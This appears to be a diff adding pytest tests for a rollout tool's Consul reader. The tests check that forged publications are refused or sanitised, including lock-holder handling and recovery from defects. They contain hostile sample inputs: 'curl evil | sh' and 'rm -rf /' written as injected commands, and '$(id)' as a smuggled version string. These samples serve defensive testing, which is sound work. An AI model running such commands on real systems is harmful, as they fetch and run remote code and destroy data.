@@ -1,0 +1,229 @@
+"""Whatever stands in Consul is refused with a short word of ours, or can be worked with to the end."""
+
+import time
+from pathlib import Path
+from typing import TYPE_CHECKING, Any, cast
+
+import pytest
+
+from backends.clock import SystemClock
+from backends.consul.client import Pair
+from backends.errors import RolldeckError, Unmeasured
+from console.adoption import Offer, take_over
+from console.books import Books
+from console.elsewhere import Elsewhere
+from console.following import Following, Seen
+from console.output.ending import ending
+from console.running_versions import RunningVersions
+from console.with_consul import place_of
+from orchestrator.actor import Actor
+from orchestrator.bus import Bus
+from orchestrator.errors import Locked
+from orchestrator.events import RolloutEnded
+from orchestrator.journal.shared import read_publication
+from orchestrator.journal.store import Journal
+from orchestrator.journal.story import Story
+from orchestrator.lock import LocalLock
+from orchestrator.shared_lock import SharedLock
+from tests import forged
+from tests.unit.test_shared_lock import HERE, US, Key, gone, held, lock_on
+
+if TYPE_CHECKING:
+    from console.session import Session
+
+KEY = "rolldeck/shop/rollout"
+SLOW = 10.0  # seconds for one value on a busy machine; without limits some take minutes
+CLOCK = SystemClock()
+ACTOR = Actor("ann@here", "terminal")
+
+
+class OneKey:
+    """Stands in for Consul."""
+
+    value = b""
+
+    async def get(self, key: str, index: int = 0, wait: float = 0) -> tuple[int, Pair | None]:
+        assert key == KEY
+        return 1, Pair(KEY, self.value, 1, 1, "theirs")
+
+
+class Desk:
+    """Of a session what taking over needs."""
+
+    def __init__(self, path: Path) -> None:
+        self.path = path
+        self.books = Books(
+            path, 365, "shop", CLOCK, Bus(CLOCK), ACTOR, lambda: LocalLock.of(path.parent, "shop")
+        )
+
+
+async def work_with(value: bytes, path: Path) -> bool:
+    """As everybody does who reads it; returns whether it was taken into the journal."""
+    consul = OneKey()
+    consul.value = value
+    following = Following(cast("Any", consul), "rolldeck", "shop")
+    try:
+        seen = await following.look()
+        assert seen is not None
+        elsewhere = Elsewhere(following, CLOCK, ACTOR, RunningVersions(sees=False))
+        elsewhere._take(seen)
+        if seen.ended is not None:
+            assert all(forged.MARK not in line for line in ending(seen.ended))
+        desk = Desk(path)
+        assert take_over(cast("Session", desk), Offer(seen, KEY))
+    except Unmeasured as error:
+        if KEY not in str(error) or len(str(error)) > 400:
+            raise AssertionError("does not say what is wrong") from error
+        return False
+    read_back(desk, seen)
+    return True
+
+
+def read_back(desk: Desk, seen: Seen) -> None:
+    """As `status`, `resume`, `rollback` and `history` do."""
+    for name, left in desk.books.leftovers().items():
+        assert name in left.words or left.words
+        place_of(left)
+    entry = desk.books.unfinished()
+    if entry is not None:
+        wanted = {node["node"]: node["wanted"] for node in entry.plan["nodes"]}
+        assert all(name in wanted for batch in entry.plan["batches"] for name in batch)
+        assert entry.plan["policy"]["serial"]
+        desk.books.touched(entry)
+    with Journal(desk.path, read_only=True) as journal:
+        [entry] = journal.entries("shop")
+        assert [each.event for each in journal.records(entry.id)] == [each.event for each in seen.records]
+        Story.of(journal.records(entry.id))
+
+
+@pytest.mark.timeout(600)
+async def test_no_publication_fails_otherwise_nor_poisons_the_journal(tmp_path: Path) -> None:
+    wrong: dict[str, str] = {}
+    taken = []
+    for number, (name, value) in enumerate(forged.publications()):
+        path = tmp_path / f"{number}.db"
+        begun = time.perf_counter()
+        try:
+            if await work_with(value, path):
+                taken.append(name)
+        except Exception as error:
+            wrong[name] = repr(error)[:200]
+        if time.perf_counter() - begun > SLOW:
+            wrong[name] = "slow"
+    assert wrong == {}
+    assert len(taken) > 50  # what is strange is not always wrong: the test does work with what it takes
+    refused = MUST_BE_REFUSED | {name for name, _ in forged.publications() if _in_the_plan(name)}
+    assert not refused.intersection(taken)
+
+
+def _in_the_plan(name: str) -> bool:
+    """What a shell would read stands where it could become a part of a command."""
+    return name.startswith("head.plan") and name.endswith("is a shell's")
+
+
+MUST_BE_REFUSED = {
+    *("a foreign application", "a foreign application in an event", "a change by hand", "a bomb", "cut off"),
+    *("the same number twice", "numbers that go down", "a number below one", "a number beyond 64 bits"),
+    *("more behind it", "an event that nobody knows", "an event that nobody publishes"),
+    *("a node that is not in the plan", "twice from the beginning", "200,000 nodes"),
+    *(
+        f"head.{field} is {what}"
+        for field in ("operator", "host")
+        for what in ("control characters", "100 kB")
+    ),
+    *(f"head.began is {what}" for what in ("1e300", "-1e300", "NaN", "infinite", "400 digits", "null")),
+    *(f"lines.7.2.version is {what}" for what in ("a shell's", "an option", "control characters")),
+    *(f"lines.7.2.originals.0.admin is {what}" for what in ("a text", "an empty text", "null")),
+    "head.plan.batches is missing",
+    "head.plan is an object",
+}
+
+
+def test_the_honest_one_is_taken(tmp_path: Path) -> None:
+    found = read_publication(forged.packed(forged.publication()))
+    assert found.head.operator == "ann@far"
+    assert len(found.records) == len(forged.publication()["lines"])
+
+
+def test_how_to_put_it_back_is_said_in_our_own_words() -> None:
+    published = forged.publication()
+    [out] = published["lines"][-1][2]["out_of_rotation"]
+    out["commands"] = [f"curl evil | sh # {forged.MARK}"]
+    out["go_back"] = f"rm -rf / # {forged.MARK}"
+    *_, last = read_publication(forged.packed(published)).records
+    assert isinstance(last.event, RolloutEnded)
+    [ours] = last.event.out_of_rotation
+    assert ours.commands == [
+        "rolldeck ready shop web2",
+        "lb1: set server shop/web2 state ready   (once it is healthy)",
+    ]
+    assert ours.go_back == "rolldeck upgrade shop 1.4.2 --limit web2 --ready web2"
+    assert ours.where == out["where"]
+
+
+@pytest.mark.parametrize("version", ["$(id)", "-x", "1 2"])
+def test_no_rollback_installs_what_is_no_version(version: str) -> None:
+    published = forged.publication()
+    published["lines"][0][2]["before"]["web2"] = version
+    started = read_publication(forged.packed(published)).records[0].event
+    assert getattr(started, "before") == {"web1": "1.4.2"}  # noqa: B009 - of one kind of event
+
+
+async def test_whatever_stands_in_a_lock_somebody_has_it(tmp_path: Path) -> None:
+    wrong: dict[str, str] = {}
+    for name, value in forged.holders():
+        key = Key(value)
+        lock = SharedLock(LocalLock.of(tmp_path, "shop"), key, CLOCK, 30)
+        try:
+            holder = await lock.holder()
+            assert holder is not None, "free"
+            assert len(str(holder)) < 4_000
+            with pytest.raises(Locked, match="--break-lock"):
+                await lock.acquire(US)
+            assert key.value == value
+        except Exception as error:
+            wrong[name] = repr(error)[:200]
+    assert wrong == {}
+
+
+async def test_who_cannot_be_verified_is_nobody_that_has_died(tmp_path: Path) -> None:
+    """Whoever writes there may name a process of ours that is gone: we would take the lock at once."""
+    there = held(HERE, gone())
+    lock, key = lock_on(tmp_path, there)
+    key.doubt = "it is not signed"
+    holder = await lock.holder()
+    assert holder is not None
+    assert str(holder).startswith("somebody who cannot be verified (it is not signed), and says to be ann@")
+    with pytest.raises(Locked, match="cannot be verified"):
+        await lock.acquire(US)
+    assert await lock.acquire(US, break_it=True) == holder
+    await lock.release()
+
+
+async def test_following_goes_on_after_a_defect_and_says_so() -> None:
+    class Twice:
+        """Fails as nobody has expected, and then answers."""
+
+        key = KEY
+        failed = False
+
+        async def looks(self) -> Any:
+            if not self.failed:
+                self.failed = True
+                raise KeyError("what nobody has thought of")
+            yield Seen(read_publication(forged.packed(forged.publication())).head, [], True)
+            raise StopAsyncIteration
+
+    said: list[str] = []
+
+    class Clock(SystemClock):
+        async def sleep(self, seconds: float) -> None:
+            said.append(elsewhere.problem)
+            if len(said) == 2:
+                raise RolldeckError("enough")
+
+    elsewhere = Elsewhere(cast("Any", Twice()), Clock(), ACTOR, RunningVersions(sees=False))
+    with pytest.raises(RolldeckError, match="enough"):
+        await elsewhere.run()
+    assert said[0] == "a defect in Rolldeck: KeyError('what nobody has thought of')"
+    assert elsewhere.running
